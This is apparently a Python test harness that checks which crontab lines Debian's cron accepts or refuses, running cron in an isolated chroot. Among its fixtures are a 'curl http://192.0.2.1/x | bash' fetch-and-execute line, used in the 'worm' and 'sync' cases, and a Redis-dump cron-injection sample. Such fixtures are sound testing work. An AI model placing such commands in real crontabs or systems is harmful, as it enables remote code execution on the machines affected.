#!/usr/bin/python3
"""Crontabs that Debian's cron (3.0pl1) takes or refuses, and cron itself.

cron.py make DIR     write each case into DIR/etc/cron.d, or the spool
cron.py want         print NAME TAB what cron says of it ("" if nothing)
cron.py ask DIR      run cron in a chroot at DIR, in namespaces of its own,
                     and print the same from what it logs

Each case is behind a good line, so that what its refusal does to the rest of
the file is seen as well. Nothing runs: no job is due, and @reboot is not used.
"""
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time

GOOD = b'1 1 1 1 * root true\n'
GOOD_USER = b'1 1 1 1 * true\n'
MIN, HOUR, DOM = 'bad minute', 'bad hour', 'bad day-of-month'
MON, DOW, CMD = 'bad month', 'bad day-of-week', 'bad command'
AT, USER, LONG = 'bad time specifier', 'bad username', 'command too long'
NL = 'missing newline before EOF'
S = b'1 1 1 1 * root '


def field(what, rest=b'1 1 1 * root true\n'):
    return what + b' ' + rest


CASES = [
    # the end of the file
    ('empty', '', b''),
    ('nonewline', NL, b'* 1 1 1 * root true'),
    ('nonewline-at', NL, b'@daily root true'),
    ('nonewline-env', NL, b'FOO=bar'),
    ('nonewline-junk', NL, b'foo bar'),
    ('nonewline-minute', NL, b'99'),
    ('nonewline-fields', NL, b'1 1 1 1 *'),
    ('nonewline-comment', '', b'# foo'),
    ('nonewline-blanks', '', b'\n  \t'),
    # users
    ('worm', USER, b'* * * * * curl http://192.0.2.1/x | bash\n'),
    ('uid-number', USER, b'1 1 1 1 * 0 true\n'),
    ('user-group', USER, b'1 1 1 1 * root:root true\n'),
    ('user-case', USER, b'1 1 1 1 * Root true\n'),
    ('user-star', USER, b'1 1 1 1 * * root true\n'),
    ('user-percent', USER, b'1 1 1 1 * root%x true\n'),
    ('user-long', USER, b'1 1 1 1 * ' + b'x' * 1100 + b' true\n'),
    ('user-other', '', b'1 1 1 1 * daemon true\n'),
    ('no-command', CMD, b'1 1 1 1 * root\n'),
    ('no-command-blank', '', b'1 1 1 1 * root  \n'),
    ('no-user', CMD, b'1 1 1 1 *\n'),
    ('no-user-blank', CMD, b'1 1 1 1 * \n'),
    ('four-fields', DOW, b'1 1 1 1\n'),
    ('glued', CMD, b'1 1 1 1 *root true\n'),
    # ranges and names
    ('minute-60', MIN, field(b'60')),
    ('minute-59', '', field(b'59')),
    ('hour-24', HOUR, b'1 24 1 1 * root true\n'),
    ('dom-0', DOM, b'1 1 0 1 * root true\n'),
    ('dom-32', DOM, b'1 1 32 1 * root true\n'),
    ('month-0', MON, b'1 1 1 0 * root true\n'),
    ('month-13', MON, b'1 1 1 13 * root true\n'),
    ('dow-7', '', b'1 1 1 1 7 root true\n'),
    ('dow-8', DOW, b'1 1 1 1 8 root true\n'),
    ('never', '', b'1 1 31 2 * root true\n'),
    ('names', '', b'1 1 1 jan,FEB sun-tue root true\n'),
    ('names-range', '', b'1 1 1 jan-mar/2 fri-sun root true\n'),
    ('name-long', MON, b'1 1 1 january * root true\n'),
    ('name-minute', MIN, field(b'jan')),
    ('backwards', '', field(b'5-1')),
    ('backwards-out', MIN, field(b'60-1')),
    ('range-out', MIN, field(b'1-60')),
    ('range-open', MIN, field(b'1-')),
    ('range-name', MIN, field(b'1-x')),
    ('range-junk', '', field(b'1-5!')),
    ('negative', MIN, field(b'-5')),
    ('dash-star', MIN, field(b'-*')),
    ('step', '', field(b'*/100')),
    ('step-0', MIN, field(b'*/0')),
    ('step-none', MIN, field(b'*/')),
    ('step-name', MIN, field(b'*/a')),
    ('step-minus', MIN, field(b'*/-5')),
    ('step-junk', MIN, field(b'*/5junk')),
    ('step-skipped', '', field(b'*/5!x,99')),
    ('step-single', MIN, field(b'1/5')),
    ('step-open', MIN, field(b'1-9/')),
    ('list', '', field(b'1,2,3-9/2,*/20')),
    ('list-end', MIN, field(b'1,')),
    ('list-hole', MIN, field(b'1,,2')),
    ('list-empty', MIN, field(b',')),
    ('star-junk', '', field(b'*foo')),
    ('star-range', '', field(b'*-5')),
    ('number-junk', '', field(b'1!junk')),
    ('hexadecimal', MIN, field(b'0x5')),
    ('digits', '', field(b'0' * 100 + b'5')),
    ('wraps', '', field(b'4294967297')),
    ('wraps-minus', MIN, field(b'2147483648')),
    ('too-large', MIN, field(b'99999999999999999999')),
    ('question', MIN, field(b'?')),
    ('last', DOM, b'1 1 L 1 * root true\n'),
    ('tilde', '', field(b'0~30')),
    ('tabs', '', b'1\t1\t1\t1\t*\troot\ttrue\n'),
    ('indented', '', b'   1 1 1 1 * root true\n'),
    ('form-feed', MIN, b'\f1 1 1 1 * root true\n'),
    # nicknames
    ('at-all', '', b''.join(b'@' + n + b' root true\n' for n in (
        b'yearly', b'annually', b'monthly', b'weekly', b'daily', b'midnight',
        b'hourly'))),
    ('at-blanks', '', b'@daily   root true\n'),
    ('at-unknown', AT, b'@foo root true\n'),
    ('at-case', AT, b'@Hourly root true\n'),
    ('at-apart', AT, b'@ daily root true\n'),
    ('at-every', AT, b'@every_minute root true\n'),
    ('at-alone', CMD, b'@daily\n'),
    ('at-no-command', CMD, b'@daily root\n'),
    ('at-user', USER, b'@daily curl x\n'),
    # variables
    ('env', '', b'FOO=bar\n'),
    ('env-blanks', '', b' FOO = bar baz \n'),
    ('env-tabs', '', b'A\t=\tb\n'),
    ('env-feeds', '', b'A\f=\fb\n'),
    ('env-quotes', '', b'"FOO"="bar"\n'),
    ('env-quoted-blank', '', b'"FOO X"=bar\n'),
    ('env-quotes-empty', '', b"A=''\n"),
    ('env-quotes-tail', '', b'A="b" \n'),
    ('env-quotes-comment', MIN, b'A="b" # c\n'),
    ('env-quotes-open', MIN, b"FOO='bar\n"),
    ('env-quotes-more', MIN, b'FOO="bar" baz\n'),
    ('env-quote-inside', '', b'A=b"c\n'),
    ('env-quoted-equals', MIN, b'"H=2"=1\n'),
    ('env-name-open', MIN, b'"H=1\n'),
    ('env-empty', MIN, b'FOO=\n'),
    ('env-empty-blanks', MIN, b'FOO=   \n'),
    ('env-empty-cr', MIN, b'FOO=\r\n'),
    ('env-cr', '', b'FOO=b\r\n'),
    ('env-no-name', '', b'=bar\n'),
    ('env-two-words', MIN, b'FOO bar=baz\n'),
    ('env-export', MIN, b'export A=b\n'),
    ('env-alone', MIN, b'FOO\n'),
    ('env-star', '', b'*=5 * * * * root true\n'),
    ('env-number', '', b'1=2 * * * * curl x\n'),
    ('env-at', '', b'@reboot=x\n'),
    ('env-equals', '', b'A==b\n'),
    ('env-long', '', b'FOO=' + b'x' * 1100 + b'\n'),
    # odd bytes
    ('crlf', '', b'1 1 1 1 * root true\r\n'),
    ('crlf-blank', MIN, b'\r\n'),
    ('nul-command', MIN, b'1 1 1 1 * root true\0bar\n'),
    ('nul-comment', '', b'1 1 1 1 * root true\0# x\n'),
    ('nul-user', '', b'1 1 1 1 * root\0true\n'),
    ('nul-field', '', b'*\0 1 1 1 * root true\n'),
    ('nul-glues', DOW, b'1 1\0* 1 1 root true\n'),
    ('nul-at', USER, b'@daily\0root true\n'),
    ('nul-alone', MIN, b'\0\n'),
    ('nul-env', '', b'A=b\0\n'),
    ('nul-end', MIN, b'\xff\xfe*\0 \0'),
    ('byte-command', '', b'1 1 1 1 * root \xff\xfe\n'),
    ('byte-start', MIN, b'\xe9* 1 1 1 * root true\n'),
    ('byte-after-star', '', b'*\xfe 1 1 1 * root true\n'),
    ('byte-255-after-star', MIN, b'*\xff 1 1 1 * root true\n'),
    ('byte-255-later', '', b'*x\xff 1 1 1 * root true\n'),
    ('byte-255-number', MIN, b'1\xff 1 1 1 * root true\n'),
    ('byte-255-step', MIN, b'*/2\xff 1 1 1 * root true\n'),
    ('byte-255-hour', HOUR, b'1 *\xff 1 1 * root true\n'),
    ('redis', MIN, b'REDIS0006\xfe\0\0\1x@B\n\n*/1 * * * * root true\n\n\xff'),
    # lengths
    ('command-998', '', S + b'x' * 998 + b'\n'),
    ('command-999', LONG, S + b'x' * 999 + b'\n'),
    ('percent', '', S + b'sh%true%\n'),
    ('lines', '', b'#\n' * 10001),
    ('entries', '', b'1 1 1 1 * root true\n' * 10001),
]
SPOOL = [
    ('root', '', b'@daily\n'),
    ('daemon', '', b'1 1 1 1 *\n'),
    ('bin', MIN, b'foo\n'),
    ('sys', NL, b'1 1 1 1 * true'),
    ('sync', '', b'1 1 1 1 * curl http://192.0.2.1/x | bash\n'),
]
PASSWD = ''.join('%s:x:%d:%d::/:/bin/sh\n' % (n, i, i) for i, n in enumerate(
    ('root', 'daemon', 'bin', 'sys', 'sync')))


def make(root):
    for d in ('etc/cron.d', 'var/spool/cron/crontabs', 'var/run', 'run', 'dev'):
        os.makedirs(os.path.join(root, d), exist_ok=True)
    with open(root + '/etc/passwd', 'w') as f:
        f.write(PASSWD)
    for where, good, mode, cases in (
            ('/etc/cron.d/', GOOD, 0o644, CASES),
            ('/var/spool/cron/crontabs/', GOOD_USER, 0o600, SPOOL)):
        for name, _, body in cases:
            with open(root + where + name, 'wb') as f:
                f.write(good + body)
            os.chmod(root + where + name, mode)


def ask(root):
    cron = '/usr/sbin/cron'
    files = [cron] + re.findall(r'(/\S+) \(0x', subprocess.run(
        ['ldd', cron], capture_output=True, text=True, check=True).stdout)
    for f in files:
        os.makedirs(root + os.path.dirname(f), exist_ok=True)
        shutil.copy(f, root + f)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    s.bind(root + '/dev/log')
    p = subprocess.Popen(['unshare', '-mpnf', '--kill-child', 'chroot', root,
                          cron, '-f', '-L', '0'])
    said, done, end = {}, False, time.time() + 20
    s.settimeout(1)
    while time.time() < end:
        try:
            m = s.recv(65536).decode('latin1')
        except socket.timeout:
            if done:
                break
            continue
        if 'reboot' in m:
            done = True
        k = re.search(r'Error: (.*); while reading (?:/etc/cron.d/|crontab for'
                      r' user )(\S+)', m)
        if k:
            said.setdefault(k.group(2), k.group(1))
        k = re.search(r'\((?:\*system\*)?(\S+)\) ERROR \(Missing newline', m)
        if k:
            said.setdefault(k.group(1), NL)
    # cron itself, so that unshare sees it end and leaves no zombie
    with open('/proc/%d/task/%d/children' % (p.pid, p.pid)) as f:
        for pid in f.read().split():
            os.kill(int(pid), signal.SIGKILL)
    p.wait()
    if not done:
        sys.exit('cron did not start')
    return said


def show(said):
    for name in sorted(n for n, _, _ in CASES + SPOOL):
        print('%s\t%s' % (name, said.get(name, '')))


if sys.argv[1] == 'make':
    make(sys.argv[2])
elif sys.argv[1] == 'want':
    show({n: w for n, w, _ in CASES + SPOOL})
elif sys.argv[1] == 'ask':
    show(ask(sys.argv[2]))
